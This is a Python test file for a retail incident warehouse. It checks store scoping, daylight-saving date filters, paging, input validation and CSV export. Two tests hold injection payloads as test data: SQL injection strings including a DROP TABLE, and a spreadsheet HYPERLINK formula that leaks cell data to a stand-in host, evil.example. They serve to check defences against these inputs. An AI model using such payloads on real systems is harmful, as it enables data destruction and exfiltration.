"""The incident list (warehouse.incidents): scope, filters in store-local time (a DST change included),
paging, CSV export, bad input."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest

from shrinkwatch.settings import Settings
from shrinkwatch.site_file import parse_site_config
from tests.factories import incident
from tests.support import record_review
from warehouse.db import connect
from warehouse.incidents import incident_count, incidents_csv, incidents_page, upsert_incidents
from warehouse.scope import Cursor, IncidentFilter, QueryError, Scope
from warehouse.site_tables import apply_site_config

SITE = """
stores:
  - {id: store-001, name: Leeds, timezone: Europe/London}
  - {id: store-002, name: Boston, timezone: America/New_York}
cameras:
  - {id: cam-1, store_id: store-001, name: Aisle, stream_url: /dev/null}
  - {id: cam-2, store_id: store-002, name: Aisle, stream_url: /dev/null}
"""
# New York moves to summer time on Sunday 8 March 2026 at 02:00 local (07:00 UTC).
BOSTON = [
    ("b-sat-night", datetime(2026, 3, 8, 2, 30, tzinfo=UTC), "high"),  # 21:30 on Saturday 7 March, EST
    ("b-sun-morning", datetime(2026, 3, 8, 7, 30, tzinfo=UTC), "medium"),  # 03:30 on Sunday 8, EDT
    ("b-mon", datetime(2026, 3, 9, 15, 0, tzinfo=UTC), "low"),
]
LEEDS = [(f"l-{i}", datetime(2026, 3, 8, 10, tzinfo=UTC) + timedelta(hours=i), "medium") for i in range(5)]


@pytest.fixture
def seeded(settings: Settings) -> Settings:
    incidents = [
        incident(
            1,
            incident_id=iid,
            store_id="store-002",
            camera_id="cam-2",
            started_at=ts,
            updated_at=ts,
            risk_level=lvl,
        )
        for iid, ts, lvl in BOSTON
    ] + [
        incident(
            1, incident_id=iid, started_at=ts, updated_at=ts, risk_level=lvl, incident_type="restricted_zone"
        )
        for iid, ts, lvl in LEEDS
    ]
    with connect(settings.database_dsn) as conn:
        apply_site_config(conn, parse_site_config(SITE))
        upsert_incidents(conn, incidents)
        record_review(conn, "l-1", confirmed=True)
        record_review(conn, "l-2", confirmed=False)
    return settings


ALL = IncidentFilter()
BOTH = Scope.of("store-001", "store-002")


def ids(settings: Settings, scope: Scope, filters: IncidentFilter = ALL) -> list[str]:
    with connect(settings.database_dsn) as conn:
        frame, _ = incidents_page(conn, scope, filters, page_size=100)
        assert incident_count(conn, scope, filters) == len(frame)
    return list(frame["incident_id"])


def test_a_scope_of_one_store_never_sees_another(seeded: Settings) -> None:
    leeds = Scope.of("store-001")
    assert ids(seeded, leeds) == [f"l-{i}" for i in reversed(range(5))]  # newest first
    assert ids(seeded, leeds, IncidentFilter(stores=("store-002",))) == []
    assert ids(seeded, leeds, IncidentFilter(cameras=("cam-2",))) == []
    assert ids(seeded, Scope.of()) == []  # an empty scope sees nothing
    assert len(ids(seeded, BOTH)) == 8


def test_days_are_the_stores_own_across_a_dst_change(seeded: Settings) -> None:
    both = BOTH
    saturday = IncidentFilter(stores=("store-002",), first_day=date(2026, 3, 7), last_day=date(2026, 3, 7))
    sunday = IncidentFilter(stores=("store-002",), first_day=date(2026, 3, 8), last_day=date(2026, 3, 8))
    assert ids(seeded, both, saturday) == ["b-sat-night"]  # 8 March in UTC, 7 March in Boston
    assert ids(seeded, both, sunday) == ["b-sun-morning"]
    assert ids(seeded, both, IncidentFilter(first_day=date(2026, 3, 9))) == ["b-mon"]


def test_filters_combine(seeded: Settings) -> None:
    both = BOTH
    assert ids(seeded, both, IncidentFilter(levels=("high", "low"))) == ["b-mon", "b-sat-night"]
    assert ids(seeded, both, IncidentFilter(types=("restricted_zone",), review=("confirmed",))) == ["l-1"]
    assert ids(seeded, both, IncidentFilter(review=("rejected",))) == ["l-2"]
    assert len(ids(seeded, both, IncidentFilter(review=("unreviewed",)))) == 6


def test_pages_follow_each_other_without_gaps_or_repeats(seeded: Settings) -> None:
    seen: list[str] = []
    cursor: Cursor | None = None
    pages = 0
    with connect(seeded.database_dsn) as conn:
        while True:
            frame, cursor = incidents_page(conn, BOTH, after=cursor, page_size=3)
            seen += list(frame["incident_id"])
            pages += 1
            if cursor is None:
                break
    assert pages == 3 and len(seen) == 8 and len(set(seen)) == 8
    assert seen == ids(seeded, BOTH)


@pytest.mark.parametrize(
    ("filters", "message"),
    [
        (IncidentFilter(first_day=date(2026, 3, 9), last_day=date(2026, 3, 1)), "is after"),
        (IncidentFilter(types=("shoplifting",)), "types: unknown value(s) 'shoplifting'"),
        (IncidentFilter(levels=("critical",)), "levels: unknown"),
        (IncidentFilter(review=("maybe",)), "review: unknown"),
        (IncidentFilter(min_score=1.5), "outside 0..1"),
    ],
)
def test_filters_that_make_no_sense_are_a_clear_error(
    seeded: Settings, filters: IncidentFilter, message: str
) -> None:
    with (
        connect(seeded.database_dsn) as conn,
        pytest.raises(QueryError, match=message.replace("(", r"\(").replace(")", r"\)")),
    ):
        incidents_page(conn, Scope.of("store-001"), filters)


def test_unknown_or_hostile_values_find_nothing(seeded: Settings) -> None:
    hostile = "store-001' OR '1'='1"
    assert ids(seeded, Scope.of("store-001"), IncidentFilter(stores=("no-such-store",))) == []
    assert (
        ids(seeded, Scope.of("store-001"), IncidentFilter(cameras=("x'); DROP TABLE incidents; --",))) == []
    )
    assert ids(seeded, Scope.of(hostile)) == []
    assert len(ids(seeded, Scope.of("store-001"))) == 5  # and the table is still there
    with connect(seeded.database_dsn) as conn, pytest.raises(QueryError, match="page_size"):
        incidents_page(conn, Scope.of("store-001"), page_size=0)


def test_the_csv_export_runs_no_formula(settings: Settings) -> None:
    # Ids from a site file may start with '-'; a note is whatever a reviewer typed.
    site = """
stores:
  - {id: store-001, name: Leeds, timezone: Europe/London}
cameras:
  - id: -2-3
    store_id: store-001
    name: Aisle
    stream_url: /dev/null
    zones:
      - {id: -1-1, name: Door, kind: entrance, polygon: [[0, 0], [1, 0], [1, 1]]}
"""
    started = datetime(2026, 3, 8, 10, tzinfo=UTC)
    note = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    with connect(settings.database_dsn) as conn:
        apply_site_config(conn, parse_site_config(site))
        upsert_incidents(
            conn,
            [
                incident(
                    1, incident_id="x-1", camera_id="-2-3", zone_ids=["-1-1"], started_at=started, track_id=-1
                )
            ],
        )
        assert record_review(conn, "x-1", confirmed=True, note=note)
        body = incidents_csv(conn, Scope.of("store-001"), ALL)
    [row] = csv.DictReader(io.StringIO(body.decode("utf-8")))
    assert row["camera_id"] == "'-2-3" and row["zone_ids"] == "'-1-1"
    assert row["review_note"] == "'" + note
    assert (row["store_id"], row["reviewed_by"], row["risk_score"], row["track_id"]) == (
        "store-001",
        "ana",
        "0.5",
        "-1",
    )
    assert row["signals"] == "dwell_high_value_s=0.500"
    assert row["started_at"] == "2026-03-08 10:00:00+00:00"
    first_cells = [line.split(",")[0] for line in body.decode("utf-8").splitlines()]
    assert first_cells == ['"incident_id"', '"x-1"']
